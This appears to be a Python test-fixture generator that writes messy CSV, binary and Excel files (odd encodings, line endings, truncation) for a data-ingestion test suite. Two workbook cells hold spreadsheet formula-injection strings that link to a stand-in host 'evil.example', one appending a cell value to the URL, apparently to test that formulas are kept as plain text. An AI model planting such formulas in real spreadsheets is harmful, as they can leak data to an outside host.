"""Write the corpus files whose bytes matter: encodings, line endings, binary files and workbooks.

    python tests/corpus/make_corpus.py          # (re)writes them next to the hand-written ones

The plain UTF-8 cases are written by hand and kept as they are; the ones here would not survive an
editor (GBK, Windows-1252, UTF-16, a BOM, CR or CRLF line ends, no final newline, a ZIP, a workbook).
The output is deterministic (fixed workbook timestamps), so the files can be committed and
tests/integration/test_corpus_ingest.py checks that they still match this script.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import openpyxl
from openpyxl.styles import Alignment, Font

HERE = Path(__file__).resolve().parent
SS = "social_security_enrollment"
VC = "vaccination_coverage"
VEG = "vegetable_supply"
PI = "plan_indicators"
FIXED = datetime(2012, 10, 8, 9, 30, 0)


def _workbook_bytes(workbook: openpyxl.Workbook) -> bytes:
    """Save a workbook with every timestamp fixed, so that the same script gives the same bytes anywhere."""
    workbook.properties.creator = "hzwh corpus"
    workbook.properties.created = FIXED
    workbook.properties.modified = FIXED
    first = io.BytesIO()
    workbook.save(first)
    out = io.BytesIO()
    # Stored, not deflated: compressed bytes depend on the zlib build, stored ones only on this script.
    with zipfile.ZipFile(first) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "docProps/core.xml":  # openpyxl stamps `modified` with the time of saving
                data = _fixed_core_properties(data)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=FIXED.timetuple()[:6]), data)
    return out.getvalue()


def _fixed_core_properties(xml: bytes) -> bytes:
    stamp = FIXED.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    return re.sub(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)", rb"\g<1>" + stamp + rb"\g<2>", xml)


def _vaccination_title_row_xlsx() -> bytes:
    """A bureau workbook: a merged title row above the header, typed cells, a blank row, a note beside."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "2012年9月"
    sheet["A1"] = "杭州市2012年9月国家免疫规划疫苗接种情况"
    sheet["A1"].font = Font(bold=True, size=14)
    sheet["A1"].alignment = Alignment(horizontal="center")
    sheet.merge_cells("A1:F1")
    sheet.append(["区名", "Period", "District_Code", "Vaccine", "Eligible Children", "Vaccinated Children"])
    sheet.append(["上城区", datetime(2012, 9, 1), 330102, "BCG", 3260, 3210])  # row 3: a date cell, numbers
    sheet.append(["下城区", "2012-09", "330103", "HepB", 2860.0, 2800])  # row 4: a code typed as text
    sheet.append(["江干区", "2012-09", 330104, "MMR", 3040, 3100])  # row 5: vaccinated > eligible
    sheet.append([])  # row 6: blank
    sheet.append(["拱墅区", "2012-09", 330105, '=HYPERLINK("http://evil.example/","JE")', 2700, 2650])  # row 7
    sheet.cell(row=7, column=4).data_type = "s"  # text that looks like a formula, as a bureau would type it
    sheet.append(["西湖区", "2012-09", 330106, "JE", 2500, 2450])  # row 8
    sheet["H3"] = "备注：含流动儿童"  # a note beside the table, in no named column
    sheet.cell(row=3, column=2).number_format = "yyyy-mm"
    return _workbook_bytes(workbook)


def _plan_indicators_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["period", "target_id", "geo_code", "value", "reported_by"])
    sheet.append(["2012-07", "emp_urban_new_jobs", 330100, 106000, "市人力社保局"])
    sheet.append(["2012-07", "emp_registered_unemployment_rate", 330100, 0.035,
                  '=HYPERLINK("http://evil.example/?leak="&A1,"click")'])
    sheet.cell(row=3, column=5).data_type = "s"
    sheet.cell(row=3, column=4).number_format = "0.0%"  # shown as 3.5 %, stored as the fraction
    sheet.append(["2012-07", "sport_regular_exercise_share", 330102, "95%", "市体育局"])  # a percent typed as text
    sheet.append(["2012-07", "emp_urban_new_jobs", 330106001, 350, None])
    return _workbook_bytes(workbook)


def _png() -> bytes:
    """A 1x1 PNG: binary, with NUL bytes."""
    return bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d4944415478da63f8cfc0f01f0005000201a3d4b1d70000000049454e44ae426082"
    )


def _lines(*lines: str, end: str = "\n", final: bool = True) -> str:
    return end.join(lines) + (end if final else "")


def files() -> dict[str, Callable[[], bytes]]:
    """Relative path -> a function giving the file's bytes."""
    ss_header = "period,district_code,scheme,eligible_persons,insured_persons"
    return {
        # The same bytes as social_security_enrollment_201201.csv, delivered again under another name.
        f"{SS}/{SS}_201201_resend.csv": lambda: (HERE / SS / f"{SS}_201201.csv").read_bytes(),
        # Excel's "CSV UTF-8": a BOM and CRLF; headers as people type them.
        f"{SS}/{SS}_201202_bom_crlf.csv": lambda: "\ufeff".encode() + _lines(
            "Period,District Code,ＳＣＨＥＭＥ,Eligible-Persons, Insured_Persons ",
            "2012-02,330104,resident_medical,110000,104500",
            "2012-02,330105,employee_medical,210000,205000",
            "2012-02,330106,resident_pension,70000,66000",
            end="\r\n",
        ).encode("utf-8"),
        # A GBK export: Chinese columns, another column order, separators, full-width digits and commas.
        f"{SS}/{SS}_201203_gbk.csv": lambda: _lines(
            "区名,scheme,insured_persons,eligible_persons,district_code,period,备注",
            '上城区,resident_medical,"1,140,000","1,200,000",330102,2012-03,',
            "下城区,resident_medical,９３１００,９８０００,330103,2012-03,全角数字",
            "江干区,resident_medical,１０４，５００,１１０，０００,330104,2012-03,全角逗号",
            "拱墅区,resident_medical, 88000 , 90000 ,330105,2012-03,前后空格",
            end="\r\n",
        ).encode("gbk"),
        # Windows-1252: neither UTF-8 nor GBK.
        f"{SS}/{SS}_201204_cp1252.csv": lambda: _lines(
            ss_header + ",remark",
            "2012-04,330102,resident_medical,120500,114600,Révisé – see “note”",
            "2012-04,330103,resident_medical,98200,93300,",
            "2012-04,330104,resident_medical,110300,104800,",
        ).encode("cp1252"),
        # Two exports pasted together: UTF-8 lines and one GBK line.
        f"{SS}/{SS}_201205_mixed_encoding.csv": lambda: b"".join([
            (ss_header + ",区名\n").encode("utf-8"),
            "2012-05,330102,resident_medical,120600,114700,上城区\n".encode(),
            "2012-05,330103,resident_medical,98300,93400,下城区\n".encode("gbk"),
            "2012-05,330104,resident_medical,110400,104900,江干区\n".encode(),
        ]),
        # Notepad's "Unicode": UTF-16LE with a BOM, commas, CRLF.
        f"{VC}/{VC}_201204_utf16.csv": lambda: _lines(
            "区名,period,district_code,vaccine,eligible_children,vaccinated_children",
            "上城区,2012-04,330102,BCG,3210,3160",
            "下城区,2012-04,330103,OPV,2910,2850",
            end="\r\n",
        ).encode("utf-16"),
        # Excel's "Unicode Text" renamed to .csv: UTF-16 and tab-separated.
        f"{VC}/{VC}_201204_unicode_text.csv": lambda: _lines(
            "period\tdistrict_code\tvaccine\teligible_children\tvaccinated_children",
            "2012-04\t330104\tBCG\t3020\t2970",
            "2012-04\t330105\tBCG\t2690\t2640",
            end="\r\n",
        ).encode("utf-16"),
        f"{VC}/{VC}_201209_title_row.xlsx": _vaccination_title_row_xlsx,
        # A GBK revision with a Chinese suffix in the name, full-width digits and punctuation throughout.
        f"{VEG}/{VEG}_201202_修订.csv": lambda: _lines(
            "产品名称,period,area,product,local_output_tonnes,consumption_tonnes",
            '蔬菜,２０１２－０２,main_urban,vegetables,"５２，１００．５","９８，２００"',
            "叶菜,2012-02,Main_Urban,leafy_vegetables,３０６００,４１１００．２５",
            "水产品,2012年2月,CITY,aquatic,８８５０,１２１００",
            end="\r\n",
        ).encode("gbk"),
        # Classic Mac OS line ends (CR only).
        f"{VEG}/{VEG}_201204_cr_only.csv": lambda: _lines(
            "period,area,product,local_output_tonnes,consumption_tonnes",
            "2012-04,main_urban,vegetables,52200,98300",
            "2012-04,city,aquatic,8900,12200",
            end="\r",
        ).encode(),
        # The transfer stopped in the middle of the last line.
        f"{VEG}/{VEG}_201207_truncated.csv": lambda: _lines(
            "period,area,product,local_output_tonnes,consumption_tonnes",
            "2012-07,main_urban,vegetables,52300,98400",
            "2012-07,main_urban,leafy_vegetables,30700,41200",
            "2012-07,city,aqua",
            final=False,
        ).encode(),
        # ... and here in the middle of a quoted cell: nothing after the quote can be read reliably.
        f"{VEG}/{VEG}_201208_unclosed_quote.csv": lambda: _lines(
            "period,area,product,local_output_tonnes,consumption_tonnes",
            "2012-08,main_urban,vegetables,52400,98500",
            '2012-08,city,aquatic,"8,95',
            final=False,
        ).encode(),
        f"{VEG}/{VEG}_201209_binary.csv": _png,
        f"{VEG}/{VEG}_201209_workbook.csv": _plan_indicators_xlsx,
        f"{VEG}/{VEG}_201212_damaged.xlsx": lambda: _plan_indicators_xlsx()[:1500],
        f"{PI}/{PI}_201207.xlsx": _plan_indicators_xlsx,
        # Two UTF-8 exports with BOMs concatenated: the second header is a row of the file.
        f"{PI}/{PI}_201208_repeated_header.csv": lambda: (
            "\ufeffperiod,target_id,geo_code,value,reported_by\n"
            "2012-08,emp_urban_new_jobs,330100,121000,市人力社保局\n"
            "\ufeffperiod,target_id,geo_code,value,reported_by\n"
            "2012-08,emp_urban_new_jobs,330102,6100,上城区\n"
        ).encode("utf-8"),
        # Windows-1252 whose bytes happen to be valid GB18030: it would read as 'B黵o Z黵ich'.
        f"{PI}/{PI}_201210_cp1252.csv": lambda: _lines(
            "period,target_id,geo_code,value,reported_by",
            "2012-10,emp_urban_new_jobs,330100,151000,Büro Zürich",
        ).encode("cp1252"),
    }


def build(root: Path = HERE) -> list[Path]:
    written = []
    for relative, make in files().items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(make())
        written.append(path)
    return written


if __name__ == "__main__":
    for path in build():
        print(path.relative_to(HERE))
